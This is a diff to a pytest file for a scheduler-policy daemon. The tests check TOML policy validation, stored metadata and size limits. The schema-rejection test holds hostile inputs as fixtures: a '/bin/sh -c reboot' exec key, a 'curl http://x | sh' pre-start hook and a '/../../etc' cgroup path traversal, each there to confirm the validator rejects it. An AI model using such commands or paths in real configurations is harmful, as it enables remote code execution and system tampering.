@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import hashlib
+import re
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -16,6 +18,7 @@ from schedcpd.repository import Repository, load_directory
 from schedcpd.schema import MIGRATIONS
 from schedcpd.state import StateStore
 from tests.harness import ROOT
+from tests.policy.test_documents import assert_names_fields
 
 POLICIES = ROOT / "policies"
 
@@ -179,7 +182,57 @@ def test_random_documents_never_crash_and_name_a_field(text: str) -> None:
         try:
             run(repo.add(text, "user", "uid 0"))
         except InvalidArgument as err:
-            assert "uid 0: " in str(err)
+            # Not TOML: the parser's position; TOML: the field (tests/policy/test_documents.py).
+            if "not valid TOML" in str(err):
+                assert re.search(r"\(at line \d+, column \d+\)|at end of document", str(err))
+            else:
+                assert_names_fields(str(err), "uid 0")
         finally:
             store.close()
         assert host.records["scheduler"].enabled  # the plugin never raised
+
+
+def test_metadata_is_stored_from_the_document(repo: Repository) -> None:
+    text = (POLICIES / "batch-throughput.toml").read_text()
+    got = run(repo.get(run(repo.add(text, "builtin", str(POLICIES / "batch-throughput.toml")))))
+    assert got["name"] == "batch-throughput" and got["subsystem"] == "scheduler"
+    assert got["track"] == "T1" and got["provenance"] == "builtin"
+    assert got["workloads"] and got["tags"]
+    assert got["parameters"]["nice"] == {"field": "group[0].task.nice", "min": 0, "max": 19,
+                                         "default": 5, "description": "nice of the batch tasks"}
+    assert got["id"] == hashlib.sha256(text.encode()).hexdigest()
+
+
+@pytest.mark.parametrize(
+    ("text", "fragment"),
+    [
+        # Stage 1: nothing outside the allow-list, so no free-form command anywhere...
+        (SMALL.replace('task = { policy = "batch" }',
+                       'task = { policy = "batch" }\nexec = "/bin/sh -c reboot"'),
+         "group[0].exec: unknown key"),
+        (SMALL + '\n[hooks]\npre_start = "curl http://x | sh"\n', "hooks: unknown key"),
+        # ...and a cgroup path must stay inside the cgroup tree.
+        (SMALL.replace('comm = ["x264"]', 'cgroup = "/../../etc"'), "group[0].match.cgroup: "),
+        (SMALL.replace('comm = ["x264"]', 'cgroup = "user.slice"'), "group[0].match.cgroup: "),
+        (SMALL.replace('{ policy = "batch" }', '{ policy = "fifo", rt_priority = 10 }'),
+         "group[0].task.policy: fifo/rr need safety.allow_realtime"),
+        (SMALL + '\n[parameters.n]\nfield = "group[0].task.policy"\nmin = 5\nmax = 1\n',
+         "parameters.n.min: 5 is above max 1"),
+        (SMALL + '\n[parameters."odd key"]\nfield = "nowhere"\n',
+         'parameters."odd key".field: '),
+        (SMALL.replace("[policy]", '[policy]\ntags = "one"'), "policy.tags: must be a list"),
+    ],
+)
+def test_schema_stage_rejects_by_field(repo: Repository, text: str, fragment: str) -> None:
+    with pytest.raises(InvalidArgument) as info:
+        run(repo.add(text, "user", "uid 0"))
+    assert f"uid 0: {fragment}" in str(info.value)
+
+
+def test_size_limits_of_documents_and_artifacts(repo: Repository) -> None:
+    # A T2 policy carries its artifact (the BPF scheduler's C source) in [scx] source.
+    t2 = '[policy]\nname = "big"\ndescription = "d"\ntrack = "T2"\n[scx]\nsource = """\n{}\n"""\n'
+    with pytest.raises(InvalidArgument, match=r"uid 0: scx.source: longer than 49152 bytes"):
+        run(repo.add(t2.format("/* x */\n" * 6200), "user", "uid 0"))
+    with pytest.raises(InvalidArgument, match=r"uid 0: policy is larger than 65536 bytes"):
+        run(repo.add(t2.format("/* x */\n" * 8300), "user", "uid 0"))
